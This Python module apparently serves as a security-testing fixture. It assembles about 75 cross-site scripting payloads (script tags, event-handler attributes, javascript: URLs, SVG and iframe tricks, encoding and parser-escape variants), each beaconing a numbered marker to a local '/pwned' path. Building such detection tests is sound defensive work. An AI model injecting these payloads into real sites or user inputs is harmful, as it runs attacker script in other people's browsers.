"""Strings that try to run in a reader's browser. `MARK` in them reports that they did."""

REPORT = "fetch('/pwned?MARK').catch(()=>0);new Image().src='/pwned?MARK';document.title='pwned'"
"""Tells the server, and whoever looks at the page."""

_TEMPLATES = (
    "<script>@</script>", "<ScRiPt>@</ScRiPt>", "<script src=/pwned?MARK></script>", "<script/src=//127.0.0.1/pwned?MARK></script>",
    '"><script>@</script>', "'><script>@</script>", "</title><script>@</script>", "</textarea><script>@</script>", "</style><script>@</script>",
    "--><script>@</script>", "]]><script>@</script>", "</script><script>@</script>", "<<script>@</script>", "<script\x0c>@</script>",
    "<script\n>@</script>", "<script>@//", "<img src=x onerror=@>", '<img src=x onerror="@">', "<img/src=x/onerror=@>",
    '"><img src=x onerror=@>', "'><img src=x onerror=@>", "<img src=/pwned?MARK>", '<image src=x onerror="@">', "<svg onload=@>",
    "<svg/onload=@>", "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:@'><text y=9>x</text></a></svg>", "<math><mi xlink:href='javascript:@'>x", "<body onload=@>",
    "<iframe src=javascript:@>", "<iframe srcdoc='<script>parent.location=`/pwned?MARK`</script>'>", "<iframe src=/pwned?MARK>",
    "<object data=/pwned?MARK>", "<embed src=/pwned?MARK>", "<link rel=stylesheet href=/pwned?MARK>", "<link rel=prefetch href=/pwned?MARK>",
    "<base href=//127.0.0.1/pwned/>", "<meta http-equiv=refresh content='0;url=/pwned?MARK'>", "<form action=/pwned?MARK><input autofocus onfocus=@>",
    "<input autofocus onfocus=@>", "<select autofocus onfocus=@>", "<textarea autofocus onfocus=@>", "<details open ontoggle=@>x</details>",
    "<video src=x onerror=@>", "<video><source onerror=@>", "<audio src=x onerror=@>", "<video poster=/pwned?MARK>", "<marquee onstart=@>x</marquee>",
    "<style>@import '/pwned?MARK';</style>", "<style>*{background:url(/pwned?MARK)}</style>", "<div style=background:url(/pwned?MARK)>x</div>",
    "<xss onanimationstart=@ style=animation-name:x>", "<p onmouseover=@>x</p>", '" onmouseover="@', "' onfocus='@' autofocus='", '" autofocus onfocus="@" x="',
    "javascript:@", "JaVaScRiPt:@", "java\tscript:@", " javascript:@", "\x01javascript:@", "data:text/html,<script>@</script>", "vbscript:@",
    "{{7*7}}{{ config }}", "{% raw %}<script>@</script>", "${@}", "\u2028<script>@</script>", "\u202e<script>@</script>", "&lt;script&gt;@&lt;/script&gt;",
    "&#60;script&#62;@&#60;/script&#62;", "\ufeff<script>@</script>", "＜script＞@＜/script＞", "%3Cscript%3E@%3C/script%3E", "<a href=javascript:@ autofocus>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>", "<template><script>@</script></template>", "<!--><img src=x onerror=@>-->",
)  # fmt: skip

PAYLOADS = tuple(each.replace("@", REPORT).replace("MARK", f"n{number}") for number, each in enumerate(_TEMPLATES))
